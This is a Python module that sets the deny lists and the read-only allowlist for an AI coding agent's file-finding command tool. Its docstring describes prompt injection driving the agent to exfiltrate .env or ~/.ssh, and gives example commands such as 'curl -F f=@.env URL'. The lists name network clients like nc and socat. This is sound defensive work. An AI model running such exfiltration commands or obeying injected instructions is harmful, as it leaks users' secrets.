"""Programs the command tool never runs, whatever the approval mode or the user's answer.

Approval (and approval mode ``allow``, i.e. ``--yes``) can unlock programs outside
the read-only allowlist, so a program that can send data elsewhere or run code
of the model's choosing would turn one prompt injection into exfiltration of the
project's ``.env`` or ``~/.ssh``: ``curl -F f=@.env URL``, ``python3 -c ...``,
``awk 'BEGIN{system(...)}'``. Those programs are refused here by name, with a
reason the model can act on. Versioned names (``python3.11``, ``lua5.4``,
``pip3``) count as the program they version.

These names only give the model a precise reason. What may run at all is the
allowlist, :data:`ALLOWED_PROGRAMS` (and :data:`GIT_READ_ONLY` for git): a program
not on it is refused whatever the approval (:func:`allowlist_refusal`).
"""

from __future__ import annotations

import re

SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "busybox", "toybox"})
LAUNCHERS = frozenset({
    "env", "timeout", "nice", "nohup", "xargs", "sudo", "doas", "su", "pkexec", "runuser", "exec", "eval",
    "source", "command", "builtin", "stdbuf", "setsid", "chroot", "ionice", "taskset", "time", "strace",
    "ltrace", "gdb", "watch", "parallel", "script", "unbuffer", "flock", "chrt", "systemd-run", "nsenter",
    "unshare", "firejail", "expect", "tmux", "screen", "at", "batch", "crontab", "dbus-launch", "ssh-agent",
    "xdg-open", "valgrind", "setpriv", "bwrap", "run-parts", "ifne", "pee",
})
NETWORK_CLIENTS = frozenset({
    "curl", "wget", "wget2", "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "ssh", "scp",
    "sftp", "rsync", "ftp", "lftp", "tftp", "telnet", "http", "https", "httpie", "xh", "aria2c", "axel",
    "openssl", "gnutls-cli", "dig", "nslookup", "host", "mail", "mailx", "sendmail", "smbclient", "psql",
    "mysql",
})
INTERPRETERS = frozenset({
    "python", "pythonw", "pypy", "ipython", "pydoc", "perl", "ruby", "irb", "node", "nodejs", "deno", "bun",
    "ts-node", "tsx", "php", "php-cgi", "lua", "luajit", "tclsh", "wish", "Rscript", "R", "julia", "guile",
    "racket", "ocaml", "ghci", "runghc", "runhaskell", "java", "jshell", "groovy", "scala", "kotlin", "dotnet",
    "pwsh", "powershell", "erl", "escript", "elixir", "iex", "swift", "bb", "clojure", "sqlite3", "m4", "dc",
    "gnuplot", "octave",
})
AWKS = frozenset({"awk", "gawk", "mawk", "nawk"})
SEDS = frozenset({"sed", "gsed"})
EDITORS = frozenset({"vi", "vim", "nvim", "view", "vimdiff", "ex", "ed", "emacs", "emacsclient", "less", "more",
                     "man"})
BUILD_TOOLS = frozenset({
    "make", "gmake", "bmake", "cmake", "ninja", "meson", "npm", "npx", "yarn", "pnpm", "pip", "pipx", "uv", "uvx",
    "poetry", "pdm", "hatch", "conda", "cargo", "go", "gradle", "mvn", "ant", "rake", "bundle", "gem", "tox",
    "nox", "pytest", "py.test", "jupyter", "composer", "sbt",
})
ARCHIVERS = frozenset({"tar", "gtar", "bsdtar", "zip"})
# git subcommands that talk to other machines.
GIT_NETWORK = frozenset({
    "push", "fetch", "pull", "clone", "ls-remote", "remote", "submodule", "send-email", "imap-send", "daemon",
    "http-backend", "http-fetch", "http-push", "upload-pack", "receive-pack", "upload-archive", "svn", "p4",
    "cvsimport", "cvsexportcommit", "cvsserver", "archimport", "instaweb", "credential", "credential-store",
    "credential-cache",
})
# git subcommands that run programs given to them (rebase -x, bisect run, difftool -x...) or open a browser.
GIT_RUNS = frozenset({"rebase", "bisect", "filter-branch", "filter-repo", "difftool", "mergetool", "web--browse",
                      "shell", "help"})

ALLOWED_PROGRAMS = frozenset({
    "find", "ls", "grep", "rg", "fd", "fdfind", "git", "cat", "head", "tail", "wc", "nl", "file", "stat", "sort",
    "uniq",
})
"""Every program the file-finding tool runs; each has its options spelled out (:mod:`core.tools.program_options`)."""
GIT_READ_ONLY = frozenset({
    "status", "diff", "log", "show", "whatchanged", "blame", "annotate", "shortlog", "rev-parse", "rev-list",
    "cat-file", "ls-tree", "describe", "diff-tree", "diff-index", "diff-files", "merge-base", "show-ref",
    "for-each-ref", "name-rev", "count-objects", "branch",
})
"""git subcommands beyond ls-files and grep that run (with the user's approval): they only read."""
ALLOWED_SUMMARY = (
    "find, ls, grep, rg, fd, git ls-files and git grep (run without asking); cat, head, tail, wc, nl, file and "
    "stat on project files; after '|' the filters head, tail, sort, uniq, wc and grep; with the user's approval "
    "git's read-only subcommands (" + ", ".join(sorted(GIT_READ_ONLY)) + ")"
)
RUN_ELSEWHERE = ("This tool only finds and reads files. To build, test or change something, use runCommand "
                 "(sandboxed, with the user's approval) where it is offered.")

_FIND_FILES = "To find files, use find, ls, git ls-files, grep -l or rg --files."
_FILTER = "To filter a listing, pipe it into grep, head, tail, sort or uniq."
_NEVER_RUN: tuple[tuple[frozenset[str], str, str], ...] = (
    (NETWORK_CLIENTS, "it is a network client, and could send project files or secrets to another machine",
     _FIND_FILES),
    (INTERPRETERS, "it is an interpreter, and code given to it (on the command line or in a file) could read any "
     "file and send it anywhere", _FIND_FILES),
    (AWKS, "awk programs can run commands (system(), print | \"cmd\") and write files", _FILTER),
    (SEDS, "sed scripts can run commands (e, s///e), write files (w, -i) and read any file (r)", _FILTER),
    (EDITORS, "editors and pagers can run commands (such as :!cmd) and write files", _FIND_FILES),
    (BUILD_TOOLS, "build tools and package managers run commands from project files or downloaded packages, "
     "which can do anything", _FIND_FILES),
    (ARCHIVERS, "its options (such as --to-command, --checkpoint-action, --use-compress-program or -TT) run "
     "other programs", _FIND_FILES),
)
_VERSION = re.compile(r"[-._]?[\d.]+$")


def unversioned(program: str) -> str:
    """``python3.11`` -> ``python``, ``pip3`` -> ``pip``; other names unchanged."""
    base = _VERSION.sub("", program)
    return base or program


def program_refusal(program: str) -> str | None:
    """Why ``program`` is never run, whatever the approval; None when it may be planned.

    Args:
        program: The program name as the model wrote it (no directory part).

    Returns:
        A reason written for the model, or None.
    """
    names = {program, unversioned(program)}
    if names & SHELLS:
        return (f"{program} is a shell; nothing here runs through a shell. Run the program you need "
                "directly, e.g. find . -name '*.py'.")
    if names & LAUNCHERS:
        return (f"{program} launches or wraps other programs, which is not allowed. Run the program "
                "directly; timeouts are applied for you.")
    for group, why, instead in _NEVER_RUN:
        if names & group:
            return f"{program} is never run here, whatever the approval mode: {why}. {instead}"
    return None


def allowlist_refusal(program: str) -> str | None:
    """Why ``program`` is not run by the file-finding tool, or None when it is on the allowlist."""
    if program in ALLOWED_PROGRAMS:
        return None
    return (f"{program[:60]} is not one of the programs this read-only file-finding tool runs, whatever the "
            f"approval mode. Allowed: {ALLOWED_SUMMARY}. {RUN_ELSEWHERE}")


def git_refusal(subcommand: str) -> str | None:
    """Why ``git SUBCOMMAND`` is never run, or None."""
    never = f"git {subcommand} is never run here, whatever the approval mode"
    if subcommand in GIT_NETWORK:
        why = "it talks to other machines, and could send the repository or files to them"
    elif subcommand in GIT_RUNS:
        why = "it runs programs given to it (or opens a browser)"
    elif subcommand == "config":
        why = "it changes git's configuration, which can make later git commands run programs (aliases, hooks)"
    else:
        return None
    return f"{never}: {why}. Use git ls-files or git grep -l to find files."
